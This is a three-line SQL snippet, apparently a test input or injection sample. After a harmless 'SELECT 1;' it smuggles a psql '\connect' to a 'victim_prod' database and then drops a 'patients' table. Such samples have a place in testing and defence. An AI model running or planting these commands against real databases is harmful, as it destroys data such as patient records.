CREATE TABLE t (x int);
SELECT 1; \connect victim_prod
DROP TABLE patients;
